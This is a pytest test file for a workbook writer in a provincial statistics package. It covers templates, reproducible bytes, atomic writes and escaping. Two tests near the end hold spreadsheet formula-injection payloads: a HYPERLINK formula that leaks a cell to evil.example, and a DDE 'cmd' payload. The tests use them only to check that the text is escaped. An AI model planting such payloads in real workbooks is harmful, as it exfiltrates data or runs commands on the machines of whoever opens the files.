"""Writing workbooks: templates for any year range, reproducible bytes, atomic writes, no formula injection."""
from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from workbook_helpers import edit, export_laocai, found

from laocai_stats import (
    LaocaiError,
    list_tables,
    load_table,
    open_dataset,
    printed_totals,
)
from laocai_stats.workbook.writer import ZIP_TIME, write_workbook

WEBSITE, AGENTS, CONFERENCES = "Table 4 website", "Table 1 agents", "Table 2 conferences"


def header_years(path: Path, sheet: str) -> list[int]:
    ws = openpyxl.load_workbook(path)[sheet]
    return [c.value for c in ws[4] if isinstance(c.value, int)]


def test_template_defaults_to_the_shipped_years(tmp_path):
    path = write_workbook(None, tmp_path / "t.xlsx")
    assert header_years(path, WEBSITE) == [2016, 2017, 2018, 2019, 2020]
    assert open_dataset(path).province == "unnamed province"


@pytest.mark.parametrize("years", [[2021], list(range(2019, 2024)), list(range(1995, 2031))], ids=["one", "2019-2023", "1995-2030"])
def test_template_for_any_years_reads_back_blank(tmp_path, years):
    path = write_workbook(None, tmp_path / "t.xlsx", province="Ha Giang", years=years)
    assert header_years(path, CONFERENCES) == years
    dataset = open_dataset(path)
    assert dataset.province == "Ha Giang"
    assert not [p for p in dataset.problems() if p.severity == "error"]
    frame = load_table("conferences", path)
    assert sorted(frame["year"].unique()) == years
    assert frame["value"].isna().all()  # blank, not zero
    assert printed_totals("website", path).empty


def test_filled_template_with_other_years_loads(tmp_path):
    template = write_workbook(None, tmp_path / "t.xlsx", province="Ha Giang", years=range(2019, 2024))

    def fill(wb):
        ws = wb[WEBSITE]  # D..H are 2019..2023, I is Total; rows 5 articles, 6 visits
        for column, value in zip("DEFGH", [120, 131, None, 150, 162]):
            ws[f"{column}5"] = value
        ws["I5"] = 563
        ws = wb[AGENTS]
        ws["D5"], ws["E5"] = 150, 140
        ws.insert_rows(12)
        ws["C12"], ws["D12"], ws["E12"] = "Đồn biên phòng", 7, 3
        wb["Table 2 conferences"]["E5"] = 12
        wb["Table 2 conferences"]["B2"] = "Ha Giang Social Security yearly reports 2019-2023"

    filled = edit(template, tmp_path / "ha-giang.xlsx", fill)
    website = load_table("website", data=filled)
    articles = website[website["indicator"] == "articles"]
    assert articles["year"].tolist() == [2019, 2020, 2021, 2022, 2023]
    assert articles["value"].tolist()[:2] == [120, 131] and pd.isna(articles["value"].iloc[2])
    assert printed_totals("website", filled)["value"].tolist() == [563]
    agents = load_table("agents", filled)
    assert agents.query("group == 'don_bien_phong' and indicator == 'agent_staff'")["value"].item() == 7
    assert agents.query("group == 'peoples_committee' and indicator == 'collection_points'")["value"].item() == 140
    dataset = open_dataset(filled)
    assert dataset.spec("conferences").source == "Ha Giang Social Security yearly reports 2019-2023"
    assert not [p for p in dataset.problems() if p.severity == "error"]


def test_export_of_a_workbook_reads_back_the_same(tmp_path):
    first = export_laocai(tmp_path, "first.xlsx")
    second = write_workbook(open_dataset(first), tmp_path / "second.xlsx")
    for name in list_tables():
        pd.testing.assert_frame_equal(load_table(name, second), load_table(name))
    assert first.read_bytes() == second.read_bytes()


def test_same_data_give_byte_identical_files(tmp_path):
    one = export_laocai(tmp_path, "one.xlsx")
    two = export_laocai(tmp_path, "two.xlsx")
    assert one.read_bytes() == two.read_bytes()
    with zipfile.ZipFile(one) as archive:
        assert {info.date_time for info in archive.infolist()} == {ZIP_TIME}
        core = archive.read("docProps/core.xml").decode()
    assert "<dcterms:created" in core and core.count("2024-01-01T00:00:00Z") == 2
    t1 = write_workbook(None, tmp_path / "t1.xlsx", province="Yen Bai", years=[2020, 2021])
    t2 = write_workbook(None, tmp_path / "t2.xlsx", province="Yen Bai", years=[2020, 2021])
    assert t1.read_bytes() == t2.read_bytes()


def test_failed_write_leaves_the_old_file_and_no_temporary(tmp_path, monkeypatch):
    from laocai_stats.workbook import writer as workbook_writer

    target = tmp_path / "out.xlsx"
    target.write_bytes(b"the previous file")

    def fail(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(workbook_writer.os, "replace", fail)
    with pytest.raises(LaocaiError, match="out.xlsx: cannot write: No space left on device"):
        write_workbook(None, target)
    assert target.read_bytes() == b"the previous file"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.xlsx"]


def test_refuses_to_write_over_the_workbook_it_reads(tmp_path):
    path = export_laocai(tmp_path)
    before = path.read_bytes()
    with pytest.raises(LaocaiError, match="refusing to write over the workbook being read"):
        write_workbook(open_dataset(path), path)
    assert path.read_bytes() == before


@pytest.mark.parametrize("name, message", [("out.csv", "must end in .xlsx"), ("no/such/folder/out.xlsx", "does not exist")])
def test_bad_output_paths(tmp_path, name, message):
    with pytest.raises(LaocaiError, match=message):
        write_workbook(None, tmp_path / name)


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_province_name_cannot_become_a_formula(tmp_path):
    path = write_workbook(None, tmp_path / "t.xlsx", province=EVIL)
    cell = openpyxl.load_workbook(path)["About"]["B3"]
    assert cell.data_type == "s" and cell.value == "'" + EVIL
    with zipfile.ZipFile(path) as archive:
        assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert open_dataset(path).province == "'" + EVIL


def test_text_read_from_a_workbook_is_escaped_when_written_again(tmp_path):
    source = export_laocai(tmp_path)

    def plant(wb):
        for sheet, coordinate, text in [("Sources", "C5", "@SUM(1+1)*cmd|' /C calc'!A0"), (AGENTS, "C6", "-2+3"), (WEBSITE, "B2", "+1")]:
            cell = wb[sheet][coordinate]
            cell.value = text
            cell.data_type = "s"  # a text cell, as a crafted file could hold

    planted = edit(source, tmp_path / "planted.xlsx", plant)
    again = write_workbook(open_dataset(planted), tmp_path / "again.xlsx")
    wb = openpyxl.load_workbook(again)
    assert wb["Sources"]["C5"].value == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert wb[AGENTS]["C6"].value == "'-2+3"
    assert wb[WEBSITE]["B2"].value == "'+1"
    assert all(wb[s][c].data_type == "s" for s, c in [("Sources", "C5"), (AGENTS, "C6"), (WEBSITE, "B2")])


def test_layout_guides_the_person_filling_it(tmp_path):
    path = write_workbook(None, tmp_path / "t.xlsx", years=range(2019, 2024))
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Instructions", "About", "Table 1 agents", "Table 2 conferences", "Table 3 publications",
                             "Table 4 website", "Table 5 press", "Sources"]
    ws = wb[WEBSITE]
    assert [c.value for c in ws[4]] == ["Id", "Indicator", "Unit", 2019, 2020, 2021, 2022, 2023, "Total", "Kind", "Channel"]
    assert [ws["A5"].value, ws["C5"].value, ws["A6"].value, ws["C6"].value] == ["articles", "articles", "visits", "visits"]
    assert ws["D5"].number_format == "#,##0"
    checks = {str(v.sqref): (v.type, v.operator, v.formula1) for v in ws.data_validations.dataValidation}
    assert checks["D5:I6"] == ("whole", "greaterThanOrEqual", "0")
    assert checks["D4:H4"][0] == "whole"
    agents = wb[AGENTS]
    assert [c.value for c in agents[4]] == ["Id", "No.", "Agent system", "Number of employees agency (people)",
                                           "Number of collection points (points)"]
    assert agents["C12"].value == "Total"
    text = "\n".join(str(c.value) for row in wb["Instructions"].iter_rows() for c in row if c.value)
    for needed in ("leave the cell blank", "never as zero", "a flow is counted", "a level is", "Sources", "insert a row above 'Total'"):
        assert needed in text
    kinds = {row[1].value: row[4].value for row in wb["Instructions"].iter_rows(min_row=17) if row[1].value}
    assert kinds["coordinating_units"] == "level" and kinds["training_conferences"] == "flow" and kinds["agent_staff"] == "snapshot"


def test_template_validates_clean_apart_from_empty_tables(tmp_path):
    path = write_workbook(None, tmp_path / "t.xlsx", province="Lai Chau")
    problems = found(path)
    assert {s for s, _ in problems} == {"warning"}
    assert all(m.endswith("no figures entered yet; type them in the table, or leave the sheet as it is if none are known") for _, m in problems)
